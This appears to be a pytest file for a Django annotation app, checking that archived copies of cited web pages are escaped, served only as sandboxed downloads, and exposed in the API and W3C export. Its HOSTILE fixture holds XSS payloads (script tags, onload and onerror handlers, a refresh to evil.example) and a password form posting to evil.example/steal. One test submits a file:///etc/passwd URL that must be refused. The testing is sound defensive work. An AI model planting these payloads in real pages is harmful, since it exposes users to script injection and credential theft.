"""Looking at a copy safely (escaped text page; the bytes only as a download), the card's line, the API's `snapshot`,
the W3C export's TimeState, and a new article from a URL (page and API)."""

import pytest

from annotations import services
from annotations.models import Article, Snapshot, SnapshotKind
from evidence import services as evidence
from tests import workflow
from tests.api.conftest import make_token, token_client
from tests.api.test_permissions import MATRIX, actor
from tests.api.w3c import check_w3c_annotations as w3c
from tests.evidence.test_snapshots import ARTICLE_PAGE

pytestmark = pytest.mark.django_db

HOSTILE = """<!doctype html><html><head><title>Totally normal page</title>
<meta http-equiv="refresh" content="0; url=https://evil.example/">
<script>document.title = "PWNED"; fetch("/api/v1/articles/", {method: "POST"});</script></head>
<body onload="document.body.dataset.pwned = 1"><article><h1>Totally normal page</h1>
<p>The harbour handled 12 million tonnes of cargo last year, the port authority said in its annual report.</p>
<p>Shipping companies expect the figure to grow again <img src=x onerror="document.body.dataset.pwned = 2"> next
year as the new terminal opens.</p>
<form action="https://evil.example/steal" method="post"><input name="password"></form>
<script>document.body.dataset.pwned = 3</script></article></body></html>"""


def cited_source(editor, site, path="/page", body=None):
    article = workflow.article(editor)
    claim = workflow.claim(article, editor)
    source = services.source_create(claim=claim, user=editor, url=site.put(path, body or HOSTILE), title="Page")
    evidence.snapshot_take(Snapshot.objects.get(source=source).pk)
    return source


def test_the_text_page_escapes_what_the_page_said(editor, site, client):
    snapshot = cited_source(editor, site).current_snapshot
    client.force_login(editor)
    page = client.get(f"/snapshots/{snapshot.pk}/text/")
    assert page.status_code == 200 and page["Content-Type"].startswith("text/html")
    content = page.content.decode()
    assert "12 million tonnes of cargo" in content
    for active in ("<script>document", "onerror=", "onload=", 'http-equiv="refresh"', "evil.example/steal"):
        assert active not in content


def test_the_original_is_only_a_download_that_no_browser_renders(editor, site, client):
    snapshot = cited_source(editor, site).current_snapshot
    client.force_login(editor)
    response = client.get(f"/snapshots/{snapshot.pk}/original/")
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment;")
    assert response["Content-Type"] == "application/octet-stream"
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Security-Policy"] == "sandbox"
    assert b"".join(response.streaming_content) == HOSTILE.encode()


@pytest.mark.parametrize("page", ["text", "original", "changes"])
def test_snapshot_pages_need_a_login_and_a_role(editor, nobody, site, client, page):
    snapshot = cited_source(editor, site).current_snapshot
    url = f"/snapshots/{snapshot.pk}/{page}/"
    assert client.get(url).status_code == 302  # to the login page
    client.force_login(nobody)
    assert client.get(url).status_code == 403


def test_the_card_says_when_the_page_was_archived(editor, site, client):
    source = cited_source(editor, site)
    snapshot = source.current_snapshot
    client.force_login(editor)
    card = client.get(f"/claims/{source.claim_id}/").content.decode()
    line = card[card.index(f'id="source-{source.pk}-snapshot"') :]
    line = line[: line.index("</p>")]
    assert "archived <time" in line and f">{snapshot.fetched_at:%-d %b %Y}</time>" in line
    assert f"/snapshots/{snapshot.pk}/text/" in line and f"/snapshots/{snapshot.pk}/original/" in line
    assert "live page:" in line and "not checked yet" in line


def test_the_api_shows_each_sources_snapshot_null_until_asked(editor, site):
    api = token_client(make_token(editor, write=True))
    source = cited_source(editor, site)
    claim = source.claim
    other = services.source_create(claim=claim, user=editor, url=site.url("/missing"), title="Missing")
    Snapshot.objects.filter(source=other).delete()  # as for a source cited before copies were kept
    data = api.get(f"/api/v1/claims/{claim.pk}/").json()
    snapshot = source.current_snapshot
    first, second = data["sources"]
    assert second["snapshot"] is None
    assert first["snapshot"] == {
        "state": "archived",
        "fetched_at": snapshot.fetched_at.isoformat().replace("+00:00", "Z"),
        "status_code": 200,
        "final_url": source.url,
        "sha256": snapshot.sha256,
        "title": "Totally normal page",
        "text_url": f"/snapshots/{snapshot.pk}/text/",
        "original_url": f"/snapshots/{snapshot.pk}/original/",
        "archive_org_url": "",
        "live": "unknown",
        "checked_at": None,
        "error": "",
    }
    listed = api.get(f"/api/v1/articles/{claim.article_id}/claims/").json()["results"][0]
    assert listed["sources"] == data["sources"]


def test_a_failed_copy_says_why_in_the_api(editor, site):
    api = token_client(make_token(editor, write=True))
    claim = workflow.claim(workflow.article(editor), editor)
    source = services.source_create(claim=claim, user=editor, url=site.url("/gone"), title="Gone")
    evidence.snapshot_take(source.current_snapshot.pk)
    snapshot = api.get(f"/api/v1/claims/{source.claim_id}/").json()["sources"][0]["snapshot"]
    assert snapshot["state"] == "failed" and snapshot["error"] == "The site answered 404 Not Found."
    assert snapshot["text_url"] is None and snapshot["original_url"] is None


def test_the_w3c_export_carries_a_time_state_for_a_source_with_a_copy(editor, site):
    api = token_client(make_token(editor, write=True))
    source = cited_source(editor, site)
    snapshot = source.current_snapshot
    page = api.get(f"/api/v1/articles/{source.claim.article_id}/annotations/").json()
    found = list(w3c.annotations_in(page))
    registry = w3c._registry()
    assert {a["id"]: w3c.must_failures(a, registry) for a in found} == {a["id"]: [] for a in found}
    linking = next(b for b in found[0]["body"] if b.get("purpose") == "linking")
    assert linking["state"] == {
        "type": "TimeState",
        "cached": f"http://testserver/snapshots/{snapshot.pk}/original/",
        "sourceDate": snapshot.fetched_at.isoformat().replace("+00:00", "Z"),
    }


def test_an_article_from_a_url_through_the_api(editor, site):
    api = token_client(make_token(editor, write=True))
    response = api.post("/api/v1/articles/from-url/", {"url": site.put("/news", ARTICLE_PAGE)}, format="json")
    assert response.status_code == 201, response.content
    data = response.json()
    assert data["title"].startswith("Inflation rose to 7.2%")
    assert data["publication"] == "The Ledger" and data["url"] == site.url("/news")
    assert "consumer prices rose 7.2 percent" in data["body"] and "Reader42" not in data["body"]
    assert data["language"] == "en"
    origin = Snapshot.objects.get(article_id=data["id"])
    assert origin.kind == SnapshotKind.ORIGIN and origin.sha256


def test_the_article_page_links_to_the_copy_it_was_made_from(editor, site, client):
    api = token_client(make_token(editor, write=True))
    made = api.post("/api/v1/articles/from-url/", {"url": site.put("/news", ARTICLE_PAGE)}, format="json").json()
    pasted = workflow.article(editor, title="Pasted by hand")
    origin = Snapshot.objects.get(article_id=made["id"])
    client.force_login(editor)
    page = client.get(f"/articles/{made['id']}/").content.decode()
    assert f'<a href="/snapshots/{origin.pk}/text/" id="origin-copy">Copy of' in page
    assert client.get(f"/snapshots/{origin.pk}/text/").status_code == 200
    assert 'id="origin-copy"' not in client.get(f"/articles/{pasted.pk}/").content.decode()


@pytest.mark.parametrize(
    "path, page, settings_change, message",
    [
        ("/image.png", {"body": b"\x89PNG", "headers": {"Content-Type": "image/png"}}, {}, "not a web page"),
        ("/empty", {"body": "<html><head><title>Empty</title></head><body></body></html>"}, {}, "No article text"),
        ("/big", {"body": "x" * 5000}, {"SOURCE_SNAPSHOT_MAX_BYTES": 1000}, "larger than"),
        ("/slow", {"body": "x" * 50, "drip_seconds": 1}, {"SOURCE_SNAPSHOT_TIMEOUT_SECONDS": 1}, "within 1 seconds"),
        ("/private", {"body": ARTICLE_PAGE}, {"SOURCE_SNAPSHOT_ALLOW_PRIVATE_NETWORKS": False}, "private network"),
    ],
)
def test_an_article_from_a_url_fails_clearly(editor, site, settings, path, page, settings_change, message):
    for name, value in settings_change.items():
        setattr(settings, name, value)
    api = token_client(make_token(editor, write=True))
    response = api.post("/api/v1/articles/from-url/", {"url": site.put(path, **page)}, format="json")
    assert response.status_code == 400
    assert message in response.json()["errors"]["url"][0]
    assert not Article.objects.exists()


def test_an_article_from_a_url_needs_an_http_address(editor):
    api = token_client(make_token(editor, write=True))
    response = api.post("/api/v1/articles/from-url/", {"url": "file:///etc/passwd"}, format="json")
    assert response.status_code == 400 and "http://" in response.json()["errors"]["url"][0]


def test_the_page_shows_what_was_extracted_before_saving(editor, site, client):
    client.force_login(editor)
    listing = client.get("/articles/").content.decode()
    assert 'href="/articles/from-url/"' in listing and "New article from URL" in listing
    url = site.put("/news", ARTICLE_PAGE)
    preview = client.post("/articles/from-url/", {"url": url})
    assert preview.status_code == 200
    content = preview.content.decode()
    assert "What was extracted" in content and "The Ledger" in content and "consumer prices rose" in content
    assert not Article.objects.exists()
    snapshot = Snapshot.objects.get(kind=SnapshotKind.ORIGIN)
    saved = client.post("/articles/from-url/", {"snapshot": snapshot.pk})
    article = Article.objects.get()
    assert saved.status_code == 302 and saved["Location"] == f"/articles/{article.pk}/"
    assert article.publication == "The Ledger" and Snapshot.objects.get(article=article) == snapshot


def test_the_page_says_why_a_url_failed(editor, site, client):
    client.force_login(editor)
    response = client.post("/articles/from-url/", {"url": site.url("/nothing")})
    assert response.status_code == 400
    assert "The site answered 404 Not Found." in response.content.decode()


@pytest.mark.parametrize("kind", list(MATRIX))
def test_who_may_make_an_article_from_a_url(kind, request, article):
    # Whoever may create an article may ask for one from a URL; this address is refused once they are let in.
    client = actor(kind, request)
    may_write = MATRIX[kind][1]  # the matrix's second column: creating an article
    response = client.post("/api/v1/articles/from-url/", {"url": "ftp://example.org/a"}, format="json")
    assert response.status_code == (400 if may_write == 201 else may_write)


def test_the_claim_lists_etag_changes_when_a_copy_is_taken_or_checked(editor, site):
    api = token_client(make_token(editor, write=True))
    claim = workflow.claim(workflow.article(editor), editor)
    source = services.source_create(claim=claim, user=editor, url=site.put("/p", HOSTILE), title="P")
    url = f"/api/v1/articles/{claim.article_id}/claims/"
    pending = api.get(url)["ETag"]
    evidence.snapshot_take(source.current_snapshot.pk)
    archived = api.get(url)
    assert archived["ETag"] != pending
    assert archived.json()["results"][0]["sources"][0]["snapshot"]["state"] == "archived"
    assert api.get(url, HTTP_IF_NONE_MATCH=archived["ETag"]).status_code == 304
    evidence.sources_check(claim_id=claim.pk)
    assert api.get(url, HTTP_IF_NONE_MATCH=archived["ETag"]).status_code == 200
